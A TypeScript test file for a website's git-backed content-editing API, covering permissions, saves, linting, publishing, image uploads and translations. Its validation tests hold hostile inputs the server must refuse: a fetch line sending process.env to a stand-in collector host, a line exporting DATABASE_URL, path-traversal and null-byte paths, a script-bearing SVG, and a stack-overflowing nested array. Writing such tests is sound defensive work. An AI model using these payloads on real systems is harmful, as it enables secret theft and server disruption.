/**
 * The Content tab's HTTP contract (issue 37) through the real function, on a real git repository: a
 * throwaway bare clone of the project (the local provider). What the API says is checked against what git
 * itself then holds — branches, files, commits on main — read with the git CLI, not through the provider.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PNG } from 'pngjs';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { germanStart } from '../../src/lib/translation-start.ts';
import { useContentStore } from '../../src/server/content/store.ts';
import { startApi, type Api } from './support/harness.ts';

const OWNER = { email: 'owner@korvel.example', password: 'the owner passphrase, long enough' };
const EDITOR = { email: 'writer@korvel.example', password: 'the writer passphrase, long enough' };
const SALES = { email: 'sales@korvel.example', password: 'the sales passphrase, long enough' };

const NAMES = { owner: 'Olga Owner', editor: 'Wren Writer', sales: 'Sam Sales' };

let api: Api;
let repo: string;
let scratch: string;
const tokens: Record<'owner' | 'editor' | 'sales', string> = { owner: '', editor: '', sales: '' };

/** git in the test's repository, read directly: the provider's word is not taken for what it wrote. */
const git = (...args: string[]) => execFileSync('git', ['-C', repo, ...args], { encoding: 'utf8' }).trim();
const refOf = (branch: string) => {
  try {
    return git('rev-parse', '--verify', '--quiet', `refs/heads/${branch}`);
  } catch {
    return undefined;
  }
};
const fileAt = (ref: string, path: string) => git('show', `${ref}:${path}`);
const allRefs = () => git('for-each-ref', '--format=%(objectname) %(refname)');

const call = (method: string, path: string, role: keyof typeof tokens, json?: unknown) =>
  api.call(method, path, { token: tokens[role], json });
/** What a client sends back of what it read: the front matter, the body and the version. */
const edited = (read: { frontmatter: object; body: string; version: string }, changes: object = {}) => ({
  frontmatter: read.frontmatter,
  body: read.body,
  version: read.version,
  ...changes,
});

beforeAll(async () => {
  scratch = mkdtempSync(join(tmpdir(), 'korvel-content-api-'));
  repo = join(scratch, 'site.git');
  execFileSync('git', ['init', '--quiet', '--bare', '--initial-branch=main', repo]);
  execFileSync('git', ['-C', repo, 'fetch', '--quiet', '--no-tags', process.cwd(), 'HEAD:refs/heads/main']);
  process.env.CONTENT_REPO = repo;
  useContentStore(undefined);
  api = await startApi();
  for (const [role, account] of [
    ['owner', OWNER],
    ['editor', EDITOR],
    ['sales', SALES],
  ] as const) {
    await api.createAdmin(account.email, account.password, role);
    await api.db.query('UPDATE admins SET name = $2 WHERE email = $1', [account.email, NAMES[role]]);
    tokens[role] = await api.login(account.email, account.password);
  }
});

afterAll(async () => {
  await api?.close();
  delete process.env.CONTENT_REPO;
  useContentStore(undefined);
  rmSync(scratch, { recursive: true, force: true });
});

const activity = async (action: string) =>
  api.db.query<{ target: string; actor_email: string }>(
    'SELECT target, actor_email FROM activity_log WHERE action = $1 ORDER BY id',
    [action],
  );

/** A new news item's front matter that the schema accepts; `overrides` plant what a test needs. */
const newsItem = (overrides: Record<string, unknown> = {}) => ({
  title: 'Korvel engineers at the hydrogen valley forum',
  summary:
    'Three of our process engineers spoke at the regional forum on electrolysers, compression and the safety distances a hydrogen plant needs.',
  date: '2026-11-20',
  author: 'ivana-petrovic',
  discipline: 'Process engineering',
  divisions: ['energy'],
  tags: ['hydrogen', 'events'],
  images: [1, 2, 3].map((n) => ({
    src: `../../assets/news/achema/${n}.svg`,
    alt: `Line drawing number ${n} of the exhibition stand and its visitors`,
  })),
  references: [1, 2, 3].map((n) => ({
    title: `Hydrogen safety guideline part ${n}`,
    publisher: 'European Industrial Gases Association',
    year: 2023,
    url: `https://www.eiga.eu/publications/doc-${n}`,
  })),
  ...overrides,
});

describe('who may use it', () => {
  test('without a token 401, sales 403; owners and editors list both languages', async () => {
    expect((await api.call('GET', '/api/content')).status).toBe(401);
    expect((await call('GET', '/api/content', 'sales')).status).toBe(403);
    expect((await call('GET', '/api/content/blog/en/gmp', 'sales')).status).toBe(403);
    const english = await call('GET', '/api/content?lang=en', 'editor');
    expect(english.status, english.text).toBe(200);
    const gmp = english.body.items.find((item: { id: string }) => item.id === 'gmp');
    expect(gmp).toMatchObject({
      collection: 'blog',
      lang: 'en',
      id: 'gmp',
      title: 'Medicines versus dietary supplements: what GMP changes in plant design',
      date: '2025-07-08',
      status: 'published',
      twin: { exists: true },
    });
    expect(english.body.items.every((item: { lang: string }) => item.lang === 'en')).toBe(true);
    expect(english.body.items.some((item: { collection: string }) => item.collection === 'news')).toBe(true);
    const german = await call('GET', '/api/content?lang=de', 'owner');
    expect(german.body.items.map((item: { lang: string }) => item.lang)).toContain('de');
    expect(german.body.items.every((item: { lang: string }) => item.lang === 'de')).toBe(true);
    expect((await call('GET', '/api/content?lang=fr', 'owner')).status).toBe(400);
  });
});

describe('reading and saving', () => {
  test('a piece reads as its file: the body byte for byte, the version its blob id', async () => {
    const read = await call('GET', '/api/content/blog/en/gmp', 'editor');
    expect(read.status, read.text).toBe(200);
    const file = readFileSync('src/content/blog/gmp.mdx', 'utf8');
    expect(file.endsWith(read.body.body)).toBe(true);
    expect(read.body.version).toBe(git('rev-parse', 'main:src/content/blog/gmp.mdx'));
    expect(read.body.frontmatter.author).toBe('ivana-petrovic');
    expect(read.body).toMatchObject({ branch: null, status: 'published', review: null });
  });

  test('saving it unchanged writes nothing; a changed title commits one line on the piece’s branch', async () => {
    const before = allRefs();
    const read = (await call('GET', '/api/content/blog/en/gmp', 'editor')).body;
    const same = await call('PUT', '/api/content/blog/en/gmp', 'editor', edited(read));
    expect(same.status, same.text).toBe(200);
    expect(same.body.version).toBe(read.version);
    expect(allRefs()).toBe(before);

    const title = 'Medicines and dietary supplements: what GMP changes in a plant';
    const saved = await call(
      'PUT',
      '/api/content/blog/en/gmp',
      'editor',
      edited(read, { frontmatter: { ...read.frontmatter, title } }),
    );
    expect(saved.status, saved.text).toBe(200);
    expect(saved.body.branch).toBe('content/blog/gmp');
    const onBranch = fileAt('content/blog/gmp', 'src/content/blog/gmp.mdx');
    const original = fileAt('main', 'src/content/blog/gmp.mdx');
    const changed = onBranch.split('\n').filter((line, i) => line !== original.split('\n')[i]);
    expect(changed).toEqual([`title: '${title}'`]);
    expect(saved.body.version).toBe(git('rev-parse', 'content/blog/gmp:src/content/blog/gmp.mdx'));
    expect(git('log', '-1', '--format=%an <%ae>', 'content/blog/gmp')).toBe(`Wren Writer <${EDITOR.email}>`);
    expect(fileAt('main', 'src/content/blog/gmp.mdx')).toBe(original);
    expect(await activity('content.save')).toContainEqual({
      target: 'blog/en/gmp',
      actor_email: EDITOR.email,
    });

    const list = await call('GET', '/api/content?lang=en', 'owner');
    expect(list.body.items.find((item: { id: string }) => item.id === 'gmp')).toMatchObject({
      title,
      status: 'draft',
      branch: 'content/blog/gmp',
      // The English text changed after its German twin last did: the list marks the twin.
      twin: { exists: true, stale: true },
    });
    const achema = list.body.items.find((item: { id: string }) => item.id === 'achema');
    expect(achema.twin).toEqual({ exists: true, stale: false });
    expect(list.body.authors).toContainEqual({
      id: 'ivana-petrovic',
      name: expect.stringMatching(/^Ivana /),
    });
  });

  test('a stale version is 409 and writes nothing; of two saves at once one wins, the other is 409', async () => {
    const read = (await call('GET', '/api/content/blog/en/insulin', 'owner')).body;
    const edit = (title: string) => edited(read, { frontmatter: { ...read.frontmatter, title } });
    const [a, b] = await Promise.all([
      call('PUT', '/api/content/blog/en/insulin', 'owner', edit('Insulin plants: the first of two edits')),
      call('PUT', '/api/content/blog/en/insulin', 'editor', edit('Insulin plants: the second of two edits')),
    ]);
    expect([a.status, b.status].sort()).toEqual([200, 409]);
    const winner = a.status === 200 ? 'first' : 'second';
    expect(fileAt('content/blog/insulin', 'src/content/blog/insulin.mdx')).toContain(
      `the ${winner} of two edits`,
    );
    const loser = a.status === 409 ? a : b;
    expect(loser.body.error.code).toBe('conflict');

    const head = refOf('content/blog/insulin');
    const stale = await call(
      'PUT',
      '/api/content/blog/en/insulin',
      'owner',
      edit('Insulin plants: a stale third edit'),
    );
    expect(stale.status).toBe(409);
    expect(refOf('content/blog/insulin')).toBe(head);
  });

  test('front matter the schema refuses is 400 with its fields, and nothing is written', async () => {
    const before = allRefs();
    const read = (await call('GET', '/api/content/blog/en/roda', 'owner')).body;
    const bad = await call(
      'PUT',
      '/api/content/blog/en/roda',
      'owner',
      edited(read, {
        frontmatter: {
          ...read.frontmatter,
          title: 'Short',
          author: 'nobody-here',
          divisions: ['space'],
          images: [{ src: '../../assets/articles/roda/missing.svg', alt: 'x' }],
        },
      }),
    );
    expect(bad.status, bad.text).toBe(400);
    expect(bad.body.error.code).toBe('invalid_frontmatter');
    expect(Object.keys(bad.body.error.fields)).toEqual(
      expect.arrayContaining(['title', 'author', 'divisions.0', 'images.0.src', 'images.0.alt', 'images']),
    );
    const noBody = await call('PUT', '/api/content/blog/en/roda', 'owner', { frontmatter: read.frontmatter });
    expect(noBody.status).toBe(400);
    expect(noBody.body.error.fields).toHaveProperty('body');
    expect(allRefs()).toBe(before);
  });

  test('a field the schema does not know is 400 at any depth and writes nothing, however deep its value', async () => {
    const before = allRefs();
    const read = (await call('GET', '/api/content/blog/en/roda', 'owner')).body;
    const frontmatter = { ...read.frontmatter, images: [{ ...read.frontmatter.images[0], note: 'x' }] };
    // Written by hand: the YAML writer overflowed its stack on a value 20,000 arrays deep (a 500).
    const deep = '['.repeat(20_000) + ']'.repeat(20_000);
    const body = JSON.stringify({ ...edited(read), frontmatter: { ...frontmatter, extra: 'DEEP' } });
    const bad = await api.call('PUT', '/api/content/blog/en/roda', {
      token: tokens.owner,
      body: body.replace('"DEEP"', deep),
      headers: { 'content-type': 'application/json' },
    });
    expect(bad.status, bad.text).toBe(400);
    expect(bad.body.error.code).toBe('invalid_frontmatter');
    expect(Object.keys(bad.body.error.fields)).toEqual(expect.arrayContaining(['extra', 'images.0.note']));
    expect(allRefs()).toBe(before);
  });

  test('text that would run code at build time is 400 and writes nothing; data and notes in braces save', async () => {
    const before = allRefs();
    const read = (await call('GET', '/api/content/blog/en/roda', 'owner')).body;
    for (const [line, code] of [
      ['export const secret = process.env.DATABASE_URL', 'an import or export line'],
      ['Sent {fetch("https://collector.example/?" + JSON.stringify(process.env))}.', 'a {…} expression'],
      ['<ComparisonTable caption="Loads" rows={rows()} />', 'the rows attribute of <ComparisonTable>'],
    ]) {
      const bad = await call('PUT', '/api/content/blog/en/roda', 'owner', {
        ...edited(read),
        body: `\nFirst paragraph.\n\n${line}\n`,
      });
      expect(bad.status, bad.text).toBe(400);
      expect(bad.body.error.code).toBe('invalid_body');
      expect(bad.body.error.fields.body).toContain(`Line 4 holds ${code}`);
    }
    expect(allRefs()).toBe(before);
    const data =
      '<ComparisonTable caption="Loads" rows={[{ area: "Steam", medicinal: "Clean", supplements: "Plant" }]} />';
    const saved = await call('PUT', '/api/content/blog/en/roda', 'owner', {
      ...edited(read),
      body: `${read.body}\n{/* Checked against the P&ID, revision C. */}\n\n${data}\n`,
    });
    expect(saved.status, saved.text).toBe(200);
  });

  test('a path outside the content folders is 400 and writes nothing', async () => {
    const before = allRefs();
    const body = { frontmatter: newsItem(), body: '\nText.\n' };
    for (const path of [
      '/api/content/sectors/en/pharma',
      '/api/content/team/en/ivana-petrovic',
      '/api/content/blog/fr/gmp',
      '/api/content/blog/en/..%2F..%2F..%2Fpackage',
      '/api/content/blog/en/..gmp',
      '/api/content/blog/en/GMP',
      '/api/content/blog/en/gmp.mdx',
      '/api/content/blog/en/gmp%00',
      '/api/content/blog/en/-gmp',
      `/api/content/blog/en/${'a'.repeat(81)}`,
    ]) {
      const reply = await call('PUT', path, 'owner', body);
      expect(reply.status, `${path}: ${reply.text}`).toBe(400);
      expect(reply.body.error.code).toBe('invalid_piece');
      expect((await call('GET', path, 'owner')).status).toBe(400);
    }
    expect(allRefs()).toBe(before);
  });

  test('a new piece is saved without a version; a second new piece with its id is 409', async () => {
    const body = '\nThree of our engineers spoke at the forum.\n';
    const created = await call('PUT', '/api/content/news/en/hydrogen-forum', 'editor', {
      frontmatter: newsItem(),
      body,
    });
    expect(created.status, created.text).toBe(200);
    expect(created.body.branch).toBe('content/news/hydrogen-forum');
    const file = fileAt('content/news/hydrogen-forum', 'src/content/news/hydrogen-forum.mdx');
    expect(file).toMatch(/^---\ntitle: 'Korvel engineers at the hydrogen valley forum'\n/);
    expect(file).toContain('\ndivisions: [energy]\n');
    expect(file.endsWith(`---\n${body.trimEnd()}`)).toBe(true);
    const again = await call('PUT', '/api/content/news/en/hydrogen-forum', 'owner', {
      frontmatter: newsItem({ title: 'Another piece that wants the same id' }),
      body,
    });
    expect(again.status).toBe(409);
    const existing = await call('PUT', '/api/content/blog/en/volleyball', 'owner', {
      frontmatter: newsItem(),
      body,
    });
    expect(existing.status).toBe(409);
    expect(refOf('content/blog/volleyball')).toBeUndefined();
  });
});

describe('checking, submitting and publishing', () => {
  const path = '/api/content/news/en/forum-report';
  const misspelt = '\nWe recieve the drawings on Monday.\n\n## What we showed\n\nThe stand was busy.\n';

  test('the linter finds the misspelling at its line; submitting is 422 until it is fixed', async () => {
    const saved = await call('PUT', path, 'editor', { frontmatter: newsItem(), body: misspelt });
    expect(saved.status, saved.text).toBe(200);
    const lint = await call('GET', `${path}/lint`, 'editor');
    expect(lint.status, lint.text).toBe(200);
    const file = fileAt('content/news/forum-report', 'src/content/news/forum-report.mdx');
    const line = file.split('\n').findIndex((text) => text.includes('recieve')) + 1;
    expect(lint.body.findings).toContainEqual(
      expect.objectContaining({
        line,
        rule: 'spelling',
        severity: 'error',
        message: expect.stringContaining('recieve'),
      }),
    );
    const refused = await call('POST', `${path}/submit`, 'editor');
    expect(refused.status, refused.text).toBe(422);
    expect(refused.body.error.code).toBe('lint_errors');
    expect(refused.body.findings).toContainEqual(expect.objectContaining({ line, rule: 'spelling' }));
    expect(git('for-each-ref', 'refs/reviews/')).toBe('');

    const read = (await call('GET', path, 'editor')).body;
    const fixed = await call(
      'PUT',
      path,
      'editor',
      edited(read, { body: read.body.replace('recieve', 'receive') }),
    );
    expect(fixed.status, fixed.text).toBe(200);
    const clean = await call('GET', `${path}/lint`, 'editor');
    expect(clean.body.findings.filter((f: { severity: string }) => f.severity === 'error')).toEqual([]);
    const submitted = await call('POST', `${path}/submit`, 'editor');
    expect(submitted.status, submitted.text).toBe(200);
    expect((await call('GET', path, 'editor')).body.status).toBe('review');
    expect(await activity('content.submit')).toContainEqual({
      target: 'news/en/forum-report',
      actor_email: EDITOR.email,
    });
  });

  test('an editor may not publish; the owner’s publish is a merge commit on main with the file', async () => {
    const mainBefore = refOf('main')!;
    const byEditor = await call('POST', `${path}/publish`, 'editor');
    expect(byEditor.status).toBe(403);
    expect(refOf('main')).toBe(mainBefore);

    const published = await call('POST', `${path}/publish`, 'owner');
    expect(published.status, published.text).toBe(200);
    expect(published.body.commit).toBe(refOf('main'));
    expect(git('rev-list', '--parents', '-n', '1', 'main').split(' ')).toHaveLength(3);
    expect(git('log', '-1', '--format=%an <%ae>', 'main')).toBe(`Olga Owner <${OWNER.email}>`);
    expect(fileAt('main', 'src/content/news/forum-report.mdx')).toContain('We receive the drawings');
    expect(refOf('content/news/forum-report')).toBeUndefined();
    expect(git('for-each-ref', 'refs/reviews/')).toBe('');
    expect(await activity('content.publish')).toEqual([
      { target: 'news/en/forum-report', actor_email: OWNER.email },
    ]);
    const listed = (await call('GET', '/api/content?lang=en', 'editor')).body.items;
    expect(listed.find((item: { id: string }) => item.id === 'forum-report')).toMatchObject({
      status: 'published',
      branch: null,
      twin: { exists: false },
    });
  });

  test('submitting a piece without saved changes is 409; publishing one not submitted is 409', async () => {
    expect((await call('POST', '/api/content/blog/en/diversity/submit', 'owner')).status).toBe(409);
    expect((await call('POST', '/api/content/blog/en/gmp/publish', 'owner')).status).toBe(409);
  });
});

describe('the draft’s preview', () => {
  test('with the local store it is the piece’s page on this server, in its language', async () => {
    const english = await call('GET', '/api/content/news/en/forum-report/preview', 'editor');
    expect(english.status, english.text).toBe(200);
    expect(english.body).toEqual({ preview: { url: '/news/forum-report', state: 'local' } });
    const german = await call('GET', '/api/content/blog/de/gmp/preview', 'editor');
    expect(german.body).toEqual({ preview: { url: '/de/blog/gmp', state: 'local' } });
    expect((await call('GET', '/api/content/blog/de/gmp/preview', 'sales')).status).toBe(403);
    expect((await call('GET', '/api/content/sectors/en/pharma/preview', 'editor')).status).toBe(400);
  });

  test('a piece that is neither on its branch nor on main has no preview: 404, not a link to a missing page', async () => {
    const missing = await call('GET', '/api/content/blog/en/no-such-piece/preview', 'editor');
    expect(missing.status, missing.text).toBe(404);
    expect(missing.body).toMatchObject({ error: { code: 'not_found' } });
  });
});

describe('the owner’s setting: editors may publish', () => {
  const path = '/api/content/news/en/valve-clinic';
  const settings = (role: keyof typeof tokens, editorsPublish: unknown) =>
    call('PUT', '/api/content/settings', role, { editorsPublish });

  test('an editor is 403 until the owner allows it, then 200; the switch is logged', async () => {
    const body = '\nOur engineers showed how a diaphragm valve is taken apart and cleaned.\n';
    const saved = await call('PUT', path, 'editor', {
      frontmatter: newsItem({ title: 'Korvel engineers at the valve maintenance clinic' }),
      body,
    });
    expect(saved.status, saved.text).toBe(200);
    expect((await call('POST', `${path}/submit`, 'editor')).status).toBe(200);
    expect((await call('GET', '/api/content', 'editor')).body).toMatchObject({
      mayPublish: false,
      editorsPublish: false,
    });
    const mainBefore = refOf('main');
    expect((await call('POST', `${path}/publish`, 'editor')).status).toBe(403);
    expect(refOf('main')).toBe(mainBefore);

    expect((await settings('editor', true)).status).toBe(403);
    expect((await settings('owner', 'yes')).status).toBe(400);
    const allowed = await settings('owner', true);
    expect(allowed.status, allowed.text).toBe(200);
    expect(allowed.body).toEqual({ editorsPublish: true });
    expect(await activity('content.settings')).toEqual([
      { target: 'editors_publish=on', actor_email: OWNER.email },
    ]);
    expect((await call('GET', '/api/content', 'editor')).body).toMatchObject({
      mayPublish: true,
      editorsPublish: true,
    });

    const published = await call('POST', `${path}/publish`, 'editor');
    expect(published.status, published.text).toBe(200);
    expect(refOf('main')).toBe(published.body.commit);
    expect(git('log', '-1', '--format=%an <%ae>', 'main')).toBe(`Wren Writer <${EDITOR.email}>`);

    expect((await settings('owner', false)).status).toBe(200);
    expect((await activity('content.settings')).map((row) => row.target)).toEqual([
      'editors_publish=on',
      'editors_publish=off',
    ]);
    expect((await call('GET', '/api/content', 'editor')).body.mayPublish).toBe(false);
  });

  test('the setting outlives the environment’s default: CONTENT_EDITORS_PUBLISH only counts until it is set', async () => {
    process.env.CONTENT_EDITORS_PUBLISH = 'true';
    try {
      expect((await call('GET', '/api/content', 'editor')).body.mayPublish).toBe(false);
      await api.db.query('DELETE FROM admin_settings');
      expect((await call('GET', '/api/content', 'editor')).body.mayPublish).toBe(true);
    } finally {
      delete process.env.CONTENT_EDITORS_PUBLISH;
    }
    expect((await call('GET', '/api/content', 'editor')).body.mayPublish).toBe(false);
  });
});

describe('pictures', () => {
  const upload = (
    path: string,
    body: Uint8Array | string,
    type: string,
    role: keyof typeof tokens = 'editor',
  ) =>
    api.call('POST', path, {
      token: tokens[role],
      body: typeof body === 'string' ? body : Buffer.from(body),
      headers: { 'content-type': type },
    });

  test('a picture is decoded, written again and stored beside the piece under a name that never changes', async () => {
    const png = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#335577' } })
      .png()
      .toBuffer();
    const path = '/api/content/blog/en/volleyball/images?name=Team%20Photo%20(1).PNG';
    const stored = await upload(path, png, 'image/png');
    expect(stored.status, stored.text).toBe(200);
    expect(stored.body.path).toMatch(/^src\/assets\/articles\/volleyball\/team-photo-1-[0-9a-f]{10}\.png$/);
    expect(stored.body.src).toBe(stored.body.path.replace('src/', '../../'));
    const head = refOf('content/blog/volleyball');
    const saved = execFileSync('git', ['-C', repo, 'show', `content/blog/volleyball:${stored.body.path}`]);
    const decoded = PNG.sync.read(saved);
    expect([decoded.width, decoded.height]).toEqual([40, 30]);
    expect(await activity('content.upload')).toContainEqual({
      target: 'blog/en/volleyball',
      actor_email: EDITOR.email,
    });

    // The same picture again: the same file, no new commit. Nothing the piece had is gone.
    const again = await upload(path, png, 'image/png');
    expect(again.body.path).toBe(stored.body.path);
    expect(refOf('content/blog/volleyball')).toBe(head);
    expect(git('diff', '--name-status', 'main', 'content/blog/volleyball')).toBe(`A\t${stored.body.path}`);

    const name = stored.body.path.split('/').pop();
    const preview = await api.call('GET', `/api/content/blog/en/volleyball/images/${name}`, {
      token: tokens.editor,
    });
    expect(preview.status).toBe(200);
    expect(preview.headers.get('content-type')).toBe('image/png');
    // The German twin's editor finds it too, before the English piece is published.
    const fromGerman = await api.call('GET', `/api/content/blog/de/volleyball/images/${name}`, {
      token: tokens.editor,
    });
    expect(fromGerman.status).toBe(200);
  });

  test('what is not a picture, SVG, or too large is refused and nothing is written', async () => {
    const before = allRefs();
    const path = '/api/content/blog/en/roda/images?name=x.png';
    expect((await upload(path, 'not a picture at all', 'image/png')).status).toBe(415);
    expect((await upload(path, '<svg xmlns="http://www.w3.org/2000/svg"/>', 'image/svg+xml')).status).toBe(
      415,
    );
    const svgAsPng = await upload(
      path,
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
      'image/png',
    );
    expect(svgAsPng.status).toBe(415);
    expect((await upload(path, new Uint8Array(8 * 1024 * 1024 + 1), 'image/png')).status).toBe(413);
    expect((await upload('/api/content/blog/en/roda/images', new Uint8Array(10), 'image/png')).status).toBe(
      400,
    );
    expect(
      (await upload('/api/content/blog/en/..roda/images?name=x.png', new Uint8Array(10), 'image/png')).status,
    ).toBe(400);
    expect(
      (
        await api.call('GET', '/api/content/blog/en/roda/images/..%2F..%2F..%2Fpackage.json', {
          token: tokens.editor,
        })
      ).status,
    ).toBe(400);
    expect(allRefs()).toBe(before);
  });
});

describe('German twins', () => {
  test('Translate starts the twin as new:article --lang de --from does, on the twin’s branch', async () => {
    const started = await call('POST', '/api/content/news/en/forum-report/translate', 'editor');
    expect(started.status, started.text).toBe(200);
    expect(started.body.branch).toBe('content/de/news/forum-report');
    const english = fileAt('main', 'src/content/news/forum-report.mdx');
    expect(fileAt('content/de/news/forum-report', 'src/content/de/news/forum-report.mdx')).toBe(
      germanStart(`${english}\n`, 'src/content/news/forum-report.mdx').trimEnd(),
    );
    const german = await call('GET', '/api/content/news/de/forum-report', 'editor');
    expect(german.body).toMatchObject({ status: 'draft', version: started.body.version });
    expect(german.body.frontmatter.images[0].src).toBe('../../../assets/news/achema/1.svg');
    expect(await activity('content.translate')).toContainEqual({
      target: 'news/de/forum-report',
      actor_email: EDITOR.email,
    });
    const listed = (await call('GET', '/api/content?lang=en', 'editor')).body.items;
    expect(listed.find((item: { id: string }) => item.id === 'forum-report').twin.exists).toBe(true);

    expect((await call('POST', '/api/content/news/en/forum-report/translate', 'editor')).status).toBe(409);
    expect((await call('POST', '/api/content/blog/en/volleyball/translate', 'editor')).status).toBe(409);
    expect((await call('POST', '/api/content/blog/de/volleyball/translate', 'editor')).status).toBe(400);
  });
});
